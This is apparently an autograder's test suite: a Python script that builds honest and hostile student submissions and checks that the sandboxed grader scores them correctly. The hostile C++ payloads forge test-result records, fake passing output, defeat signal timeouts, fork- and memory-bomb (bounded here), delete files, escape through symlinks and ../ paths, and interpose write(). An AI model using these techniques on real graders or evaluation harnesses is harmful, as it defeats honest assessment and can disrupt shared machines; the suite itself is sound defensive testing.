#!/usr/bin/env python3
"""The autograder's test suite (issue 18): builds honest and hostile submissions for module 01, grades
them all in one `nibble autograde` run and checks the exact gradebook; grades every one of them again
with `nibble grade-one` through tools/autograde/grade_array.sh (as Slurm array tasks, with no Slurm:
SLURM_ARRAY_TASK_ID set by hand, and with GNU parallel on this machine, no ssh) and checks that
`nibble gradebook merge` gives the same gradebook; then grades a few module 02 submissions.

    tests/autograde/run_suite.py ROOT NIBBLE WORK

ROOT the instructor's tree, NIBBLE the `nibble` binary, WORK a scratch folder (its grading tree is
kept between runs, so a second run only rebuilds the owned files). Submissions are generated here,
never committed: the honest ones are copies of the solutions (which must not reach the student edition).
Every payload that could harm the machine is bounded here too (fork count, bytes written, memory)."""
import csv, io, json, os, shutil, subprocess, sys, tarfile, time, zipfile

ROOT, NIBBLE, WORK = (os.path.abspath(a) for a in sys.argv[1:4])
if os.geteuid() != 0:
    print("skipped: the autograder's sandbox (namespaces, the nibble-grader user) needs root; see tools/autograde/SECURITY.md")
    sys.exit(77)
os.makedirs(WORK, exist_ok=True)
MOD = os.path.join(ROOT, "modules/01_entropy")
SOL_E = open(os.path.join(MOD, "solution/entropy.cpp")).read()
SOL_H = open(os.path.join(MOD, "solution/huffman.cpp")).read()
FULL, VISIBLE = 145, 100   # module 01: 100 visible + 45 hidden points

SUB = os.path.join(WORK, "submissions")
OUT = os.path.join(WORK, "grades")
shutil.rmtree(SUB, ignore_errors=True)
shutil.rmtree(OUT, ignore_errors=True)
os.makedirs(SUB)
expected = {}

def folder(name, entropy=None, huffman=None, points=0, layout="modules/01_entropy/"):
    d = os.path.join(SUB, name, layout)
    os.makedirs(d, exist_ok=True)
    if entropy is not None: open(os.path.join(d, "entropy.cpp"), "w").write(entropy)
    if huffman is not None: open(os.path.join(d, "huffman.cpp"), "w").write(huffman)
    expected[name] = points

# A static initialiser that runs before gtest's main, in every test process of the submission.
def at_load(body, includes=""):
    return SOL_E + "\n#include <cstdio>\n#include <cstdlib>\n#include <unistd.h>\n" + includes + \
        "\nnamespace {\nstruct Payload {\n  Payload() {\n" + body + "\n  }\n} payload;\n}  // namespace\n"

# Honest ones.
folder("full", SOL_E, SOL_H, FULL)
folder("empty", points=0)
mut = os.path.join(MOD, "mutants/canonical_codes--lsb-first.patch")   # MUTANTS.md: loses 15 visible, 9 hidden
subprocess.run(["patch", "-s", "-o", os.path.join(WORK, "partial_huffman.cpp"), os.path.join(MOD, "solution/huffman.cpp"), mut], check=True)
folder("partial", SOL_E, open(os.path.join(WORK, "partial_huffman.cpp")).read(), FULL - 15 - 9)
folder("compile_error", SOL_E.replace("namespace nibble {", "namespace nibble {\nint oops = ;", 1), SOL_H, 0)
folder("entropy_only_flat", SOL_E, None, None, layout="")   # bare entropy.cpp; huffman.cpp stays the stub
# An archive with bare names (all points) and one with a ../ path (refused whole: stubs, 0 points).
with zipfile.ZipFile(os.path.join(SUB, "zipped.zip"), "w") as z:
    z.writestr("entropy.cpp", SOL_E); z.writestr("huffman.cpp", SOL_H)
expected["zipped"] = FULL
with tarfile.open(os.path.join(SUB, "tarred.tar.gz"), "w:gz") as t:
    for name, text in (("modules/01_entropy/entropy.cpp", SOL_E), ("modules/01_entropy/huffman.cpp", SOL_H)):
        data = text.encode(); info = tarfile.TarInfo(name); info.size = len(data); t.addfile(info, io.BytesIO(data))
expected["tarred"] = FULL
with tarfile.open(os.path.join(SUB, "dotdot.tar.gz"), "w:gz") as t:
    for name, text in (("modules/01_entropy/entropy.cpp", SOL_E), ("../escaped.cpp", "int x;")):
        data = text.encode(); info = tarfile.TarInfo(name); info.size = len(data); t.addfile(info, io.BytesIO(data))
expected["dotdot"] = 0
# Symlinks to the instructor's solution are refused.
d = os.path.join(SUB, "symlinked/modules/01_entropy"); os.makedirs(d)
os.symlink(os.path.join(MOD, "solution/entropy.cpp"), os.path.join(d, "entropy.cpp"))
os.symlink(os.path.join(MOD, "solution/huffman.cpp"), os.path.join(d, "huffman.cpp"))
expected["symlinked"] = 0

# Hostile ones: each on top of the full solution, so only the attack can cost the points.
folder("exit0_static", at_load("std::exit(0);"), SOL_H, 0)
fake = "".join('std::printf("[       OK ] %s (0 ms)\\n");' % n for n in ("EntropyGraded.SelfInformation", "HuffmanGraded.RoundTrip"))
folder("fake_pass", at_load(fake + r'''
    std::printf("[  PASSED  ] 1 test.\n");
    for (int fd = 3; fd < 10; ++fd) { const char l[] = "nibble-grade 00000000000000000000000000000000 EntropyGraded.SelfInformation pass\n";
      if (write(fd, l, sizeof l - 1) < 0) {} }
    if (FILE* f = std::fopen("report.json", "w")) { std::fputs("{\"testsuites\":[]}", f); std::fclose(f); }
    std::_Exit(0);'''), SOL_H, 0)
folder("endless_loop", at_load(r'''
    signal(SIGTERM, SIG_IGN); signal(SIGALRM, SIG_IGN); signal(SIGXCPU, SIG_IGN); signal(SIGINT, SIG_IGN);
    for (volatile unsigned long i = 0;; i = i + 1) {}''', "#include <csignal>\n"), SOL_H, 0)
folder("fork_bomb", at_load(r'''
    for (int k = 0; k < 300; ++k) if (fork() == 0) { sleep(60); std::_Exit(0); }   // bounded here; RLIMIT_NPROC stops it first
    for (volatile unsigned long i = 0;; i = i + 1) {}'''), SOL_H, 0)
folder("memory_bomb", at_load(r'''
    for (int k = 0; k < 64; ++k) {   // at most 4 GiB, bounded here; the sandbox's address-space limit stops it first
      char* p = static_cast<char*>(std::malloc(64u << 20)); if (p == nullptr) std::abort();
      for (size_t i = 0; i < (64u << 20); i += 4096) p[i] = 1; }'''), SOL_H, 0)
folder("huge_output", at_load(r'''
    static char line[4096]; for (char& c : line) c = 'x'; line[4095] = '\n';
    for (int k = 0; k < 256 * 1024; ++k) if (std::fwrite(line, 1, sizeof line, stdout) != sizeof line) break;   // 1 GiB at most'''), SOL_H, 0)
folder("include_solution_abs", '#include "%s/solution/entropy.cpp"\n' % MOD, SOL_H, 0)
folder("include_hidden_abs", SOL_E + '\n#include "%s/hidden/entropy_hidden_test.cpp"\n' % MOD, SOL_H, 0)
folder("include_sibling", '#include "huffman.cpp"\n' + SOL_E, SOL_H, 0)
# A template bomb: the compile's time limit (--compile-timeout below) ends it as a compile error.
folder("template_bomb", SOL_E + r'''
// Compile-time evaluation is not memoised: about 2^62 calls, ended by the compile's CPU limit.
constexpr long nibble_bomb(int n) { return n < 2 ? 1 : nibble_bomb(n - 1) + nibble_bomb(n - 2); }
static_assert(nibble_bomb(90) > 0, "never reached");
''', SOL_H, 0)
# Deletes what it can reach (nothing: masked or not its own), then behaves: all points, and the
# submissions graded after it are not affected.
folder("deleter", at_load(r'''
    std::error_code ec;
    for (const char* p : {"%s/solution/entropy.cpp", "%s/hidden/entropy_hidden_test.cpp", "%s/tests/entropy_graded_test.cpp"})
      std::filesystem::remove(p, ec);
    char exe[4096]; const ssize_t n = readlink("/proc/self/exe", exe, sizeof exe - 1);
    if (n > 0) { exe[n] = 0; std::filesystem::remove(exe, ec); }''' % (MOD, MOD, MOD), "#include <filesystem>\n"), SOL_H, FULL)

# The mutant whose points MUTANTS.md lists, as a base for the cases that attack the harness with a
# wrong entropy_bits (natural log): 145 - 22 - 17.
def patched(mutant, solution, mod=MOD):
    out = os.path.join(WORK, mutant + ".cpp")
    subprocess.run(["patch", "-s", "-o", out, solution, os.path.join(mod, "mutants", mutant + ".patch")], check=True)
    return open(out).read()
NATS_E = patched("entropy_bits--natural-log", os.path.join(MOD, "solution/entropy.cpp"))
NATS = FULL - 22 - 17

# Knows the harness (SECURITY.md, graded_record.h, grader_main.cpp): reads the nonce and the descriptor
# from its environment and the test asked for from its command line, writes records and _Exit(0)s
# before any test code runs. For EntropyGraded.ShannonEntropyOfAFairCoin (2 points) it writes the
# right records — the answer (1 bit) and the line, both read off the visible test (the line as the
# harness numbers it; taken here from the reference run, which a student gets by building the visible
# tests with the harness) — and that test is granted: knowing a visible test's answer is worth its
# points, as a hard-coded answer would be. For every other test it writes the old one-line "pass"
# with the right nonce, or records whose values agree with themselves: no points.
def visible_line(test, text):   # the line of the first `text` in a visible test's body
    src = open(os.path.join(MOD, "tests/entropy_graded_test.cpp")).read().split("\n")
    start = next(i for i, l in enumerate(src) if "GRADED_TEST(EntropyGraded, %s," % test in l)
    return next(i for i in range(start, len(src)) if text in src[i]) + 1
folder("harness_aware", at_load(r"""
    const char* nonce = std::getenv("NIBBLE_GRADE_NONCE"); const char* fds = std::getenv("NIBBLE_GRADE_FD");
    if (nonce == nullptr || fds == nullptr) return;
    const int fd = std::atoi(fds);
    std::string cmd, test; char buf[4096]; ssize_t n;
    const int c = open("/proc/self/cmdline", O_RDONLY);
    while (c >= 0 && (n = read(c, buf, sizeof buf)) > 0) cmd.append(buf, static_cast<size_t>(n));
    const size_t at = cmd.find("--gtest_filter="); if (at != std::string::npos) test = cmd.c_str() + at + 15;
    const std::string N = nonce;
    std::string rec;
    if (test == "EntropyGraded.ShannonEntropyOfAFairCoin") {
      const double one = 1.0, tol = 1e-12; unsigned long long a, t; std::memcpy(&a, &one, 8); std::memcpy(&t, &tol, 8);
      char v[200]; std::snprintf(v, sizeof v, "A 1 LINE near f%016llx f%016llx f%016llx\n", a, a, t);
      rec = "S " + N + " " + test + "\n" + v + "E " + N + " " + test + " 1 pass\n";
    } else if (test.rfind("EntropyGraded.", 0) == 0) {
      rec = "nibble-grade " + N + " " + test + " pass\n";
    } else {
      rec = "S " + N + " " + test + "\nA 1 1 eq f3ff0000000000000 f3ff0000000000000\nE " + N + " " + test + " 1 pass\n";
    }
    if (write(fd, rec.data(), rec.size()) < 0) {}
    std::_Exit(0);""".replace("LINE", str(visible_line("ShannonEntropyOfAFairCoin", "EXPECT_NEAR("))),
    "#include <fcntl.h>\n#include <cstring>\n#include <string>\n"), SOL_H, 2)

# In-process interposition: a wrong entropy_bits (natural log) in a library that also defines write()
# and syscall() to rewrite the assertion records on their way out (the actual value replaced by the
# expected one). The records are written with a raw system call, so neither hook ever sees one: the
# submission gets what the natural-log mutant deserves.
folder("interposer", NATS_E + r"""
#include <sys/syscall.h>
#include <unistd.h>
#include <cstdarg>
#include <cstring>
#include <string>
namespace {
long swap_values(int fd, const void* buf, size_t n) {
  std::string s(static_cast<const char*>(buf), n);
  if (fd == 3 && s.rfind("A ", 0) == 0 && s.find(" near ") != std::string::npos) {
    const size_t a = s.find(" f", s.find(" near ")), b = s.find(" f", a + 1);
    if (a != std::string::npos && b != std::string::npos) s.replace(a, 18, s.substr(b, 18));
  }
  return ::syscall(SYS_write, fd, s.data(), s.size());
}
}  // namespace
extern "C" ssize_t write(int fd, const void* buf, size_t n) { return swap_values(fd, buf, n); }
""", SOL_H, NATS)

# Signal handlers: every fatal signal writes the old "pass" line and records that agree with
# themselves, then exits 0; the static initialiser then crashes on purpose. No points.
folder("signal_handler", at_load(r"""
    static const char* nonce = std::getenv("NIBBLE_GRADE_NONCE");
    if (nonce == nullptr) return;
    static std::string N = nonce;
    struct H { static void on(int) {
      const std::string rec = "nibble-grade " + N + " x pass\nS " + N + " x\nA 1 1 true b1\nE " + N + " x 1 pass\n";
      if (write(3, rec.data(), rec.size()) < 0) {}
      _exit(0); } };
    for (int sig : {SIGSEGV, SIGBUS, SIGFPE, SIGILL, SIGABRT, SIGXCPU, SIGXFSZ, SIGTERM, SIGALRM}) signal(sig, H::on);
    *static_cast<volatile int*>(nullptr) = 1;""", "#include <csignal>\n#include <string>\n"), SOL_H, 0)

# A network attempt: a TCP connection to a listener this suite runs on the host's loopback and a DNS
# lookup, from every test process; then it behaves. All points, and the listener is never reached.
import socket, threading
listener = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
listener.bind(("127.0.0.1", 0)); listener.listen(16); listener.settimeout(0.5)
PORT = listener.getsockname()[1]
reached = []
stop_listening = threading.Event()
def listen():
    while not stop_listening.is_set():
        try:
            conn, _ = listener.accept(); reached.append(conn.recv(100)); conn.close()
        except OSError:
            pass
threading.Thread(target=listen, daemon=True).start()
folder("network", at_load(r"""
    const int s = socket(AF_INET, SOCK_STREAM, 0);
    sockaddr_in a{}; a.sin_family = AF_INET; a.sin_port = htons(%d); a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    if (s >= 0 && connect(s, reinterpret_cast<sockaddr*>(&a), sizeof a) == 0) { if (write(s, "leak", 4) < 0) {} }
    if (s >= 0) close(s);
    addrinfo* res = nullptr;
    if (getaddrinfo("deb.debian.org", "80", nullptr, &res) == 0) freeaddrinfo(res);""" % PORT,
    "#include <arpa/inet.h>\n#include <netdb.h>\n#include <netinet/in.h>\n#include <sys/socket.h>\n"), SOL_H, FULL)

def run(args):
    t0 = time.time()
    p = subprocess.run([NIBBLE] + args, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
    print(p.stdout, end="")
    return p.returncode, time.time() - t0

failures = []
def expect(cond, what):
    if not cond: failures.append(what); print("FAIL:", what)

def gradebook(path):
    with open(path) as f: return {r["student"]: (int(r["01"]), int(r["total"])) for r in csv.DictReader(f)}

# The grading tree of WORK/tree is reused between runs (configured once).
TREE = os.path.join(WORK, "tree")
opts = ["--timeout", "5", "--memory", "512", "--compile-timeout", "20", "--root", ROOT]
common = ["--modules", "01"] + opts + ["--work", TREE]
rc, secs = run(["autograde", SUB, "--out", OUT] + common)
stop_listening.set()
expect(rc == 0, "autograde exits 0 (got %d)" % rc)
book = gradebook(os.path.join(OUT, "gradebook.csv"))
# The flat one: entropy.cpp only, huffman.cpp the stub -> exactly the tests that need no Huffman code.
flat = json.load(open(os.path.join(OUT, "results/entropy_only_flat.json")))
expected["entropy_only_flat"] = sum(t["points"] for t in flat["modules"][0]["tests"] if not t["name"].startswith("Huffman"))
for name, pts in sorted(expected.items()):
    got = book.get(name)
    expect(got == (pts, pts), "%s: expected %d points, got %s" % (name, pts, got))
expect(set(book) == set(expected), "gradebook rows %s" % sorted(book))
expect(not os.path.exists(os.path.join(WORK, "escaped.cpp")) and not os.path.exists(os.path.join(OUT, ".grader/escaped.cpp")), "../ path escaped")
expect(reached == [], "a test process reached the host's loopback: %s" % reached)
# Outputs: feedback, Gradescope results, the compile error reaches the student.
fb = open(os.path.join(OUT, "feedback/compile_error.md")).read()
expect("error" in fb and "oops" in fb, "the compile error's feedback shows the compiler's error")
gs = json.load(open(os.path.join(OUT, "gradescope/partial/results.json")))
expect(gs["score"] == FULL - 24 and gs["max_score"] == FULL and len(gs["tests"]) == 35, "gradescope results.json of partial")
expect(all(set(t) >= {"name", "score", "max_score", "output", "visibility"} for t in gs["tests"]), "gradescope test fields")
hid = [t for t in gs["tests"] if t["visibility"] != "visible"]
expect(hid and all(t["output"] in ("pass", "fail") for t in hid), "hidden tests say only pass/fail")
fbp = open(os.path.join(OUT, "feedback/partial.md")).read()
expect("hint:" in fbp, "the partial submission's feedback shows a hint")
fbh = open(os.path.join(OUT, "feedback/harness_aware.md")).read()
expect("do not match the reference run" in fbh, "the forged records are named in the feedback")
# Resuming: a second run grades nothing again.
rc2, secs2 = run(["autograde", SUB, "--out", OUT] + common)
expect(rc2 == 0 and gradebook(os.path.join(OUT, "gradebook.csv")) == book, "a resumed run keeps the gradebook")

# grade-one over every submission through tools/autograde/grade_array.sh, then gradebook merge: the same
# gradebook as the one autograde run. Two tasks as a Slurm job array runs them (there is no Slurm here:
# SLURM_ARRAY_TASK_ID set by hand, as sbatch --array would), the rest with GNU parallel on this machine
# (-j1, no --sshloginfile: over hosts it is the same command line plus ssh, which is not run here).
t0 = time.time()
names = sorted(os.listdir(SUB))
listing = os.path.join(WORK, "list.txt")
open(listing, "w").write("".join(os.path.join(SUB, n) + "\n" for n in names))
ONE = os.path.join(WORK, "one"); shutil.rmtree(ONE, ignore_errors=True); os.makedirs(ONE)
script = os.path.join(ROOT, "tools/autograde/grade_array.sh")
env = dict(os.environ, NIBBLE=NIBBLE, NIBBLE_GRADE_WORK=TREE, NIBBLE_GRADE_OPTS=" ".join(opts))
def task(cmd, extra_env={}):
    p = subprocess.run(cmd, env=dict(env, **extra_env), stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
    if p.returncode != 0: print(p.stdout)
    return p.returncode
for i in (1, 2):
    expect(task(["sh", script, listing, "01", ONE], {"SLURM_ARRAY_TASK_ID": str(i)}) == 0, "Slurm-style task %d" % i)
rest = [str(i) for i in range(3, len(names) + 1)]
if shutil.which("parallel"):
    expect(task(["parallel", "--will-cite", "-j1", "sh", script, listing, "01", ONE, "{}", ":::"] + rest) == 0, "GNU parallel tasks")
else:
    print("note: GNU parallel is not installed (apt-get install parallel); the tasks run one by one")
    for i in rest: expect(task(["sh", script, listing, "01", ONE, i]) == 0, "task %s" % i)
merged_csv = os.path.join(WORK, "merged.csv")
rc4, _ = run(["gradebook", "merge"] + [os.path.join(ONE, n) for n in sorted(os.listdir(ONE))] + ["--modules", "01", "--out", merged_csv])
expect(rc4 == 0 and open(merged_csv).read() == open(os.path.join(OUT, "gradebook.csv")).read(),
       "grade-one + merge == the autograde gradebook: %s" % (gradebook(merged_csv) if rc4 == 0 else rc4))
secs_one = time.time() - t0

# Module 02 (builds on module 01, whose solution the grader compiles in): the full solution, a mutant
# with the points its MUTANTS.md lists, an empty folder and the old one-line forgery.
MOD2 = os.path.join(ROOT, "modules/02_attention_entropy")
FULL2 = 0
in02 = False
for l in open(os.path.join(ROOT, "modules/modules.manifest")):
    w = l.split()
    if w[:1] == ["module"]: in02 = w[1] == "02"
    elif in02 and w[:1] in (["graded"], ["hidden"]): FULL2 += int(w[2])
SOL_A = open(os.path.join(MOD2, "solution/attention_entropy.cpp")).read()
SUB2, OUT2 = os.path.join(WORK, "submissions02"), os.path.join(WORK, "grades02")
shutil.rmtree(SUB2, ignore_errors=True); shutil.rmtree(OUT2, ignore_errors=True)
expected2 = {}
def folder2(name, text, points):
    d = os.path.join(SUB2, name, "modules/02_attention_entropy"); os.makedirs(d)
    if text is not None: open(os.path.join(d, "attention_entropy.cpp"), "w").write(text)
    expected2[name] = points
folder2("full", SOL_A, FULL2)
folder2("collapsed_constant", patched("collapsed_heads--constant", os.path.join(MOD2, "solution/attention_entropy.cpp"), MOD2), FULL2 - 8 - 4)
folder2("empty", None, 0)
folder2("old_forgery", SOL_A + r"""
#include <cstdio>
#include <cstdlib>
#include <string>
#include <unistd.h>
namespace {
struct Forge { Forge() {
  const char* n = std::getenv("NIBBLE_GRADE_NONCE"); const char* fd = std::getenv("NIBBLE_GRADE_FD");
  if (n == nullptr || fd == nullptr) return;
  std::string cmd(4096, '\0'); FILE* f = std::fopen("/proc/self/cmdline", "r");
  if (f != nullptr) { cmd.resize(std::fread(&cmd[0], 1, cmd.size(), f)); std::fclose(f); }
  const size_t at = cmd.find("--gtest_filter=");
  const std::string line = std::string("nibble-grade ") + n + " " + (at == std::string::npos ? "" : cmd.c_str() + at + 15) + " pass\n";
  if (write(std::atoi(fd), line.data(), line.size()) < 0) {}
  std::_Exit(0);
} } forge;
}  // namespace
""", 0)
rc5, secs2m = run(["autograde", SUB2, "--out", OUT2, "--modules", "02"] + opts + ["--work", TREE])
book2 = {}
if rc5 == 0:
    with open(os.path.join(OUT2, "gradebook.csv")) as f: book2 = {r["student"]: int(r["total"]) for r in csv.DictReader(f)}
expect(rc5 == 0 and book2 == expected2, "module 02 gradebook %s, expected %s" % (book2, expected2))

print("suite: %d submissions in %.0f s (%.1f s each); resumed run %.0f s; grade-one over all %.0f s; module 02: %d in %.0f s"
      % (len(expected), secs, secs / len(expected), secs2, secs_one, len(expected2), secs2m))
if failures:
    print("%d FAILED" % len(failures)); sys.exit(1)
print("all passed")
